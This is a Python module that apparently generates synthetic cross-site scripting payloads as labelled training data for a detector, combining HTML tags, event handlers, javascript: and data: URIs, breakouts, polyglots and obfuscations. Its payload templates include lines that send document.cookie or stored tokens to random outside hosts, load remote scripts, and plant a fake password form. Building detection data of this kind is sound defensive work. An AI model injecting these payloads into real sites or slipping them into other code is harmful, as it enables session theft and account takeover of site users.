"""Cross-site scripting from a grammar: tags x event handlers x payloads x obfuscations, plus
attribute and script-string breakouts, ``javascript:``/``data:`` URIs and polyglot shapes."""

from __future__ import annotations

import random

from apiward.ml.generators.base import Family, Sample, case_variant, chance, encode_layer, html_entities, pick, rand_host, rand_ident, random_case, weighted

_TAGS = ("img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee", "div", "a", "object", "embed", "math", "select", "textarea", "keygen", "form", "button", "isindex", "style", "table", "td", "image", "frameset", "xss", "x", "p", "span", "source", "track", "meter", "animate", "set", "title", "template", "picture", "html", "base", "link", "meta")
_EVENTS = ("onerror", "onload", "onmouseover", "onclick", "onfocus", "onblur", "onmouseenter", "ontoggle", "onanimationstart", "onbegin", "onpageshow", "onstart", "onpointerover", "onmousedown", "onkeyup", "onkeydown", "oninput", "onchange", "onresize", "onscroll", "onwheel", "onauxclick", "ondblclick", "onfocusin", "ontransitionend", "onbeforeprint", "onhashchange", "onmessage", "onpopstate", "onsubmit", "oncopy", "onpaste", "oncut", "ondrag", "onloadstart", "onplay", "onended", "onselect")
_SINK_CALLS = ("alert", "confirm", "prompt", "print", "eval", "console.log", "window.alert", "top.alert", "self.alert", "parent.alert", "window['alert']", "top['al'+'ert']", "setTimeout", "Function")


def _js(rng: random.Random) -> str:
    arg = pick(rng, ("1", "document.cookie", "document.domain", "'xss'", '"XSS"', "/xss/", "`1`", "origin", "location", "String.fromCharCode(88,83,83)", str(rng.randint(0, 9999)), "localStorage.token"))
    roll = rng.random()
    if roll < 0.45:
        call = pick(rng, _SINK_CALLS)
        if call in ("setTimeout", "Function", "eval"):
            return f"{call}('alert({arg})')" if call != "Function" else f"Function('alert({arg})')()"
        return f"{call}({arg})" if rng.random() < 0.85 else f"{call}`{arg.strip(chr(39))}`"
    if roll < 0.6:
        host = rand_host(rng)
        return pick(rng, (
            f"document.location='http://{host}/?c='+document.cookie",
            f"new Image().src='//{host}/'+document.cookie",
            f"fetch('//{host}/?'+document.cookie)",
            f"location.href='https://{host}/steal?'+escape(document.cookie)",
            f"navigator.sendBeacon('//{host}',document.cookie)",
            f"window.open('//{host}/'+localStorage.getItem('token'))",
        ))
    if roll < 0.7:
        return pick(rng, ("eval(atob('YWxlcnQoMSk='))", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "[].constructor.constructor('alert(1)')()", "eval(location.hash.slice(1))", "import('//" + rand_host(rng) + "/x.js')", "top[/al/.source+/ert/.source](1)", "(alert)(1)", "a=alert,a(1)", "this['ale'+'rt'](1)", "window.onerror=alert;throw 1", "Reflect.apply(alert,null,[1])"))
    if roll < 0.8:
        return f"document.write('<script src=//{rand_host(rng)}/x.js></script>')" if rng.random() < 0.5 else f"document.body.innerHTML='<img src=x onerror=alert(1)>'"
    if roll < 0.9:
        return f"{pick(rng, _SINK_CALLS[:4])}({arg});"
    return f"$.getScript('//{rand_host(rng)}/{rand_ident(rng)}.js')"


def _attr_sep(rng: random.Random) -> str:
    return pick(rng, (" ", " ", " ", "/", "\n", "\t", "  ", " /", "/x/", "\x0c", "%0a", "%09"))


def _event_tag(rng: random.Random) -> str:
    tag = case_variant(rng, pick(rng, _TAGS))
    event = case_variant(rng, pick(rng, _EVENTS))
    js = _js(rng)
    if chance(rng, 0.15):
        js = html_entities(rng, js, 0.6)
    q = pick(rng, ("", '"', "'", "`")) if "'" not in js or True else ""
    if q == "" and (" " in js or "'" in js):
        q = '"'
    extra = ""
    if chance(rng, 0.6):
        extra = _attr_sep(rng) + pick(rng, ("src=x", "src=1", "x", "autofocus", "tabindex=1", "style=animation-name:x", "open", f'id="{rand_ident(rng)}"', "href=#", "contenteditable", "src=//x", "srcdoc=1", 'width="100"'))
    close = pick(rng, (">", ">", ">", " >", "//", "", "/>", f"></{tag}>", ">" + rand_ident(rng)))
    return f"<{tag}{extra}{_attr_sep(rng)}{event}={q}{js}{q}{close}"


def _script_tag(rng: random.Random) -> str:
    open_ = case_variant(rng, pick(rng, ("script", "script", "ScRiPt", "script type=text/javascript", "script language=javascript")))
    roll = rng.random()
    if roll < 0.6:
        return f"<{open_}>{_js(rng)}</{case_variant(rng, 'script')}>"
    if roll < 0.85:
        return f"<{open_} src={pick(rng, ('', '//', 'http://', 'https://'))}{rand_host(rng)}/{rand_ident(rng)}.js></script>"
    return f"<{open_}>{_js(rng)}"


def _uri(rng: random.Random) -> str:
    scheme = pick(rng, ("javascript:", "javascript:", "JaVaScRiPt:", "java\tscript:", "jav&#x09;ascript:", "javascript&colon;", " javascript:", "vbscript:", "&#106;avascript:"))
    payload = _js(rng)
    roll = rng.random()
    if roll < 0.3:
        return f"{scheme}{payload}"
    if roll < 0.45:
        return f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" if rng.random() < 0.5 else f"data:text/html,<script>{payload}</script>"
    tag = pick(rng, ("a href", "iframe src", "embed src", "object data", "form action", "button formaction", "math href", "base href", "isindex action", "input type=image src", "img src", "frame src"))
    return f"<{case_variant(rng, tag)}={pick(rng, ('', chr(34), chr(39)))}{scheme}{payload}{pick(rng, ('', chr(34), chr(39)))}>{pick(rng, ('', 'click', 'x', rand_ident(rng)))}"


def _breakout(rng: random.Random) -> str:
    roll = rng.random()
    inner = pick(rng, (_event_tag, _script_tag, _uri))(rng) if roll < 0.5 else ""
    if roll < 0.5:
        return pick(rng, ('">', "'>", "\">", "'/>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</noscript>", "\"/>", "'))>", "</option></select>")) + inner
    q = pick(rng, ('"', "'"))
    event = pick(rng, _EVENTS)
    js = _js(rng)
    if roll < 0.8:
        return f"{pick(rng, ('', rand_ident(rng), 'x'))}{q}{_attr_sep(rng)}{event}={q}{js}{pick(rng, ('', ' ' + q, q + ' x=' + q))}" if rng.random() < 0.5 else f"{q} {event}={js} {pick(rng, ('x=', 'a=', 'autofocus '))}{q}"
    # inside a JS string
    return pick(rng, (f"{q};{js};//", f"{q}-{js}-{q}", f"\\{q};{js}//", f"{q}+{js}+{q}", f"</script><script>{js}</script>", f"{q});{js};({q}", f"${{{js}}}"))


def _polyglot(rng: random.Random) -> str:
    parts = [
        pick(rng, ("jaVasCript:", "javascript:/*-/*`/*\\`/*'/*\"/**/", "'\"-->", "\"'><", "`'\"><")),
        pick(rng, ("/*", "(/* */", "-->", "'", "")),
        _js(rng),
        pick(rng, ("//", "/*", "")),
        pick(rng, ("</stYle/</titLe/</teXtarEa/</scRipt/--!>", "</script>", "--></svg>", "</title></style></textarea>", "")),
        pick(rng, (_event_tag, _script_tag))(rng),
    ]
    return "".join(parts)


def _styled(rng: random.Random) -> str:
    return pick(rng, (
        f"<div style=\"background:url(javascript:{_js(rng)})\">",
        f"<style>@import '//{rand_host(rng)}/x.css';</style>",
        f"<x style=\"x:expression({_js(rng)})\">",
        f"<link rel=stylesheet href=//{rand_host(rng)}/x.css>",
        f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{_js(rng)}\">",
        f"<style>*{{background-image:url('javascript:{_js(rng)}')}}</style>",
        f"<svg><animate attributeName=href values=javascript:{_js(rng)} /><a><text>x</text></a>",
        f"<svg><script>{_js(rng)}</script></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_js(rng)}>",
        f"<iframe srcdoc=\"&lt;script&gt;{_js(rng)}&lt;/script&gt;\">",
        f"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        f"{{{{constructor.constructor('{_js(rng)}')()}}}}",
        f"<img src=\"x:x\" onerror=\"{_js(rng)}\"/>",
    ))


def _fragment(rng: random.Random) -> str:
    """Pieces of script: a bare sink call, a dangling event-handler attribute, a namespaced tag."""
    roll = rng.random()
    if roll < 0.35:
        return f"{pick(rng, _SINK_CALLS[:6])}({pick(rng, ('', '1', 'document.cookie', 'document.domain', chr(39) + 'x' + chr(39)))})"
    if roll < 0.6:
        return f"{pick(rng, ('', chr(34), chr(39), ' '))}{_attr_sep(rng)}{pick(rng, _EVENTS)}{pick(rng, ('=', ' =', '= '))}{pick(rng, ('', _js(rng), chr(34) + _js(rng)))}"
    if roll < 0.8:
        ns = pick(rng, ("x", "svg", "html", "h", rand_ident(rng)[:3]))
        return f"<{ns}:script xmlns:{ns}=\"http://www.w3.org/1999/xhtml\"{pick(rng, (' src=' + chr(34) + 'data:,alert(1)' + chr(34), ''))}>{pick(rng, ('', _js(rng)))}"
    return pick(rng, (f"document.cookie", f"document.write({_js(rng)})", f"window.location={chr(39)}//{rand_host(rng)}{chr(39)}", f"innerHTML={chr(39)}<img src=x onerror={_js(rng)}>{chr(39)}", f"eval(name)", f"top.location.hash"))


def _dom_js(rng: random.Random) -> str:
    """Script without a tag, for a value that lands in a script context or an eval: property
    access by bracket strings, assignments to sinks, tagged templates, JSFuck-style coercions."""
    obj = pick(rng, ("window", "top", "self", "parent", "globalThis", "frames", "this"))
    q = pick(rng, ('"', "'"))
    roll = rng.random()
    if roll < 0.3:
        prop = pick(rng, ("alert", "confirm", "prompt", "eval", "print"))
        arg = pick(rng, (f"{obj}[{q}document{q}][{q}cookie{q}]", "document.domain", "1", f"{q}xss{q}", "origin"))
        split = pick(rng, (f"{q}{prop}{q}", f"{q}{prop[:2]}{q}+{q}{prop[2:]}{q}", f"atob({q}YWxlcnQ={q})"))
        return f"{obj}[{split}]({arg})"
    if roll < 0.5:
        sink = pick(rng, ("document.cookie", "location", "location.href", "document.location", "window.location",
                          "document.body.innerHTML", "document.domain", "location.hash"))
        value = pick(rng, (f"{q}//{rand_host(rng)}/{q}", f"{q}{rand_ident(rng)}={rand_ident(rng)}{q}", f"{q}javascript:alert(1){q}",
                           f"{q}<img src=x onerror=alert(1)>{q}", "name"))
        return pick(rng, (f"{sink}={value}", f"{sink}", f"({sink})", f"...({sink})...", f"{sink}.toString()"))
    if roll < 0.65:
        fn = pick(rng, ("alert", "confirm", "prompt", "eval", "Function"))
        return pick(rng, (f"[].sort.call`${{{fn}}}1337`", f"{fn}`1`", f"Reflect.apply.call`${{{fn}}}`",
                          f"[1].find({fn})", f"[].map.call`${{{fn}}}`", f"Array.from`1`.map({fn})"))
    if roll < 0.8:
        return pick(rng, ("(![]+[])[+!+[]]", "+!![]", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
                          "(!![]+[])[+[]]", "[]+{}", "([]+[])[(![]+[])[+[]]]", "+[![]]"))
    target = pick(rng, ("document.querySelector", "document.getElementById", "document.getElementsByTagName"))
    return f"{target}({q}{pick(rng, ('p', 'body', 'x', rand_ident(rng)))}{q}).{pick(rng, ('textContent', 'innerHTML', 'outerHTML'))}={q}{pick(rng, ('XSS', '<b>x</b>', '<img src=x onerror=alert(1)>'))}{q}"


def _bare_tag(rng: random.Random) -> str:
    """Elements that load or redirect without any event handler or script."""
    host = rand_host(rng)
    q = pick(rng, ('"', "'", ""))
    return case_variant(rng, pick(rng, (
        f"<embed src={q}{pick(rng, ('//' + host + '/', ''))}{rand_ident(rng)}.swf{q}>",
        f"<object data={q}//{host}/{rand_ident(rng)}.{pick(rng, ('swf', 'svg', 'html'))}{q}>",
        f"<object type=text/html data={q}{pick(rng, ('javascript:alert(1)', '//' + host))}{q}>",
        f"<meta http-equiv={q}refresh{q} content={q}0;{pick(rng, ('url=', ''))}//{host}/{q}>",
        f"<meta http-equiv={q}refresh{q}",
        f"<meta charset={q}{pick(rng, ('UTF-7', 'x-imap4-modified-utf7', 'UTF-8'))}{q}>",
        f"<base href={q}//{host}/{q}>",
        f"<link rel=import href={q}//{host}/x.html{q}>",
        f"<iframe src={q}//{host}/{q}></iframe>",
        f"<applet code={q}{rand_ident(rng)}.class{q} codebase={q}//{host}/{q}>",
        f"<form action={q}//{host}/login{q}><input name=password type=password>",
        f"<svg><use href={q}//{host}/x.svg#a{q}/>",
    )))


def _utf7(text: str) -> str:
    """``<`` and ``>`` in UTF-7, for a page that a meta charset or sniffing decodes as such."""
    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")


_FAMILIES: tuple[tuple[str, Family, float], ...] = (
    ("event_tag", _event_tag, 4.0),
    ("fragment", _fragment, 1.0),
    ("script_tag", _script_tag, 1.5),
    ("uri", _uri, 1.5),
    ("breakout", _breakout, 2.0),
    ("polyglot", _polyglot, 0.6),
    ("styled", _styled, 1.0),
    ("dom_js", _dom_js, 1.0),
    ("bare_tag", _bare_tag, 0.8),
)


def generate(rng: random.Random, n: int) -> list[Sample]:
    out: list[Sample] = []
    for _ in range(n):
        name, fn = weighted(rng, _FAMILIES)
        text = fn(rng)
        if chance(rng, 0.08):
            text = random_case(rng, text)
        if chance(rng, 0.03) and "<" in text:
            text = _utf7(text)
        if chance(rng, 0.2):
            # embedded in surrounding text, as in a comment field
            text = f"{pick(rng, ('hello ', 'nice post ', 'test', rand_ident(rng) + ' ', ''))}{text}{pick(rng, ('', ' thanks', ' ' + rand_ident(rng)))}"
        out.append(Sample(encode_layer(rng, text), "xss", name))
    return out
